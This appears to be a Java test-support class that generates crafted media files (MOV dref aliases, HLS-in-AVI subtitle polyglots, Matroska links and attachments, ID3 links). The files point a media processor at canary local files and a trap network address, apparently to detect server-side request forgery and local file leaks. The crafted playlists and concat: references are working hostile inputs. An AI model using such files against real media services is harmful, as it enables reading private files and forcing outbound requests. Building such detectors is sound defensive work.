package io.cliproute.hostile;

import static io.cliproute.hostile.Bytes.big;
import static io.cliproute.hostile.Bytes.box;
import static io.cliproute.hostile.Bytes.chunk;
import static io.cliproute.hostile.Bytes.element;
import static io.cliproute.hostile.Bytes.little;
import static io.cliproute.hostile.Bytes.zeros;

import io.cliproute.support.Media;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;

/** Containers of supported formats that refer to other files and addresses. */
final class ReferencingContainers {

    private final Map<String, byte[]> all = new LinkedHashMap<>();
    private final Canary canary;
    private final String web;
    private final byte[] film;

    private ReferencingContainers(Canary canary, NetworkTrap trap) throws IOException {
        this.canary = canary;
        this.web = "http://" + trap.address() + "/x";
        this.film = Files.readAllBytes(Media.speck());
    }

    static Map<String, byte[]> of(Canary canary, NetworkTrap trap) throws IOException {
        ReferencingContainers containers = new ReferencingContainers(canary, trap);
        containers.movies();
        containers.polyglots();
        containers.avis();
        containers.matroskas();
        containers.attachments();
        containers.sounds();
        return containers.all;
    }

    /**
     * Adds movies whose media is in another file, with each kind of reference, and movies that consist of a reference
     * only.
     */
    private void movies() {
        all.put("dref-url-http.mov", referring(entry("url ", web + "\0")));
        all.put("dref-url-file.mov", referring(entry("url ", canary.file("mp4").toUri() + "\0")));
        all.put(
                "dref-urn.mov",
                referring(entry("urn ", "x\0" + canary.file("mp4").toUri() + "\0")));
        all.put("dref-alias-path.mov", referring(entry("alis", alias(canary.file("mp4")))));
        all.put("dref-alias-web.mov", referring(entry("alis", alias(Path.of(web)))));
        byte[] pointer = box("rdrf", zeros(4), "url ", big(web.length() + 1, 4), web, zeros(1));
        byte[] kind = box("ftyp", "qt  ", zeros(4), "qt  ");
        all.put("pointer-rmra.mov", Bytes.of(kind, box("moov", box("rmra", box("rmda", pointer)))));
        byte[] file =
                box("rdrf", zeros(4), "alis", big(alias(canary.file("mp4")).length, 4), alias(canary.file("mp4")));
        all.put("pointer-alias.mov", Bytes.of(kind, box("moov", box("rmra", box("rmda", file)))));
        byte[] wide = Bytes.of(film, box("udta", box("meta", zeros(4), box("ilst", box("purl", web)))));
        all.put("tagged.mp4", wide);
    }

    /** Adds films with a script before them, after them, or in a box of its own. */
    private void polyglots() {
        String list =
                "#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"" + web + "\"\n#EXTINF:1.0,\n" + canary.file("ts") + "\n";
        all.put("script-then-film.mp4", Bytes.of(list, film));
        all.put("film-then-script.mp4", Bytes.of(film, list));
        byte[] adts = Bytes.of(big(0xfff1508003fffcL, 7), zeros(17));
        all.put("adts-then-script.aac", Bytes.of(adts, adts, list));
        all.put("script-in-a-box.mp4", Bytes.of(box("free", list), film));
    }

    private byte[] referring(byte[] entry) {
        return Boxes.replace(film, "dref", Bytes.of(zeros(4), big(1, 4), entry));
    }

    private static byte[] entry(String type, Object content) {
        return box(type, zeros(4), content);
    }

    /**
     * Returns a Macintosh alias record as {@code mov_read_dref} parses it: names of fixed length, then the full path.
     */
    private static byte[] alias(Path file) {
        byte[] path = file.toString().replace('/', ':').getBytes(StandardCharsets.UTF_8);
        byte[] name = Bytes.of(file.getFileName());
        return Bytes.of(
                zeros(6),
                big(2, 2),
                zeros(2),
                big(4, 1),
                "disk",
                zeros(23),
                zeros(12),
                big(name.length, 1),
                name,
                zeros(63 - name.length),
                zeros(16),
                big(1, 2),
                big(9, 2),
                zeros(16),
                big(2, 2),
                big(path.length, 2),
                path,
                zeros(path.length & 1),
                big(0xffff, 2),
                zeros(2));
    }

    /** Adds subtitles that are playlists, with which old versions of FFmpeg rendered the text of any file. */
    private void avis() {
        String list = "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n%s\n#EXTINF:1.0,\n%s\n#EXT-X-ENDLIST\n";
        all.put("gab2-playlist.avi", avi(list.formatted(canary.text().toUri(), web)));
        all.put("gab2-concat.avi", avi("ffconcat version 1.0\nfile '" + canary.text() + "'\n"));
        all.put("gab2-srt.avi", avi("1\n00:00:00,000 --> 00:00:01,000\n<img src=" + web + ">\n"));
        String xbin = "XBIN\u001a" + "\20\0\1\0\20\0\0\0";
        all.put("xbin.avi", avi(xbin + list.formatted("concat:" + canary.text() + "|" + web, web)));
        byte[] index = chunk("indx", little(4, 2), little(0, 2), little(1, 4), "ix00", zeros(12), zeros(16));
        all.put("index.avi", Bytes.of(avi("x"), index));
    }

    private static byte[] avi(String subtitle) {
        byte[] video = Bytes.of(
                chunk("strh", "vids", "XVID", zeros(12), little(1, 4), little(25, 4), zeros(28)),
                chunk(
                        "strf",
                        little(40, 4),
                        little(64, 4),
                        little(48, 4),
                        little(1, 2),
                        little(24, 2),
                        "XVID",
                        zeros(20)));
        byte[] text = Bytes.of(
                chunk("strh", "txts", zeros(16), little(1, 4), little(25, 4), zeros(28)), chunk("strf", zeros(4)));
        byte[] headers = chunk(
                "LIST",
                "hdrl",
                chunk("avih", little(40_000, 4), zeros(20), little(2, 4), zeros(28)),
                chunk("LIST", "strl", video),
                chunk("LIST", "strl", text));
        byte[] gab2 = chunk("01tx", "GAB2\0", little(2, 2), zeros(10), subtitle);
        return chunk("RIFF", "AVI ", headers, chunk("LIST", "movi", gab2, Bytes.of(frames())));
    }

    private static Object[] frames() {
        Object[] frames = new Object[50];
        java.util.Arrays.fill(frames, chunk("00dc", zeros(200)));
        return frames;
    }

    /** Adds segments that continue in other files, and texts that refer to files and addresses. */
    private void matroskas() {
        all.put(
                "linked.mkv",
                matroska("S_TEXT/UTF8", "", "x")
                        .info(element(0x3EB923, zeros(16)))
                        .info(element(0x3C83AB, canary.file("mp4")))
                        .info(element(0x3E83BB, web))
                        .with(element(0x1043A770, element(0x45B9, element(0xB6, element(0x6E67, zeros(16))))))
                        .bytes());
        String styles = "[Script Info]\nScriptType: v4.00+\n[V4+ Styles]\nFormat: Name, Fontname\nStyle: D,"
                + canary.file("srt") + "\n[Events]\nFormat: Layer, Start, End, Style, Text\n";
        String drawing = "0,0,D,,0,0,0,,{\\p1}m 0 0 l 9 9{\\p0}{\\fn" + web + "}{\\img(" + canary.file("png") + ")}x";
        all.put("drawing.mkv", matroska("S_TEXT/ASS", styles, drawing).bytes());
        all.put(
                "html.mkv",
                matroska("S_TEXT/UTF8", "", "<img src=\"" + web + "\"><font face=\"" + canary.text() + "\">x")
                        .bytes());
        all.put(
                "cue.mkv",
                matroska("S_TEXT/UTF8", "", "\n\nSTYLE\n@import url(" + web + ");\n\n<MPD dash:profile>")
                        .bytes());
    }

    private void attachments() {
        byte[] attached =
                element(0x61A7, element(0x466E, canary.text()), element(0x4660, "image/svg+xml"), element(0x465C, web));
        all.put(
                "attached.mkv",
                matroska("S_TEXT/UTF8", "", "x")
                        .with(element(0x1941A469, attached))
                        .bytes());
        byte[] font = element(
                0x61A7,
                element(0x466E, "../../" + canary.text()),
                element(0x4660, "application/x-truetype-font"),
                element(0x465C, web));
        all.put(
                "font.mkv",
                matroska("S_TEXT/ASS", "", "{\\fn" + web + "}x")
                        .with(element(0x1941A469, font))
                        .bytes());
    }

    private static Matroska matroska(String codec, String head, String text) {
        return new Matroska()
                .subtitle(1, codec, head)
                .packet(1, 0, Bytes.of(text))
                .packet(1, 1000, Bytes.of(text));
    }

    /** Adds audio packets that are scripts, which a stream copy writes to the beginning of the output. */
    private void sounds() {
        byte[] link = Bytes.of(zeros(1), "-->\0", big(3, 1), zeros(1), web);
        byte[] frame = Bytes.of("APIC", big(link.length, 4), zeros(2), link);
        all.put("sleeve-is-a-link.mp3", Bytes.of("ID3\3\0\0\0\0\0", big(frame.length, 1), frame));
        Scripts.bare(canary, web)
                .forEach((name, script) -> all.put(
                        "sound-" + name + ".mkv",
                        new Matroska()
                                .audio(1, "A_MPEG/L3", 12_345)
                                .packet(1, 0, Bytes.of(script))
                                .packet(1, 1000, Bytes.of(script))
                                .bytes()));
    }
}
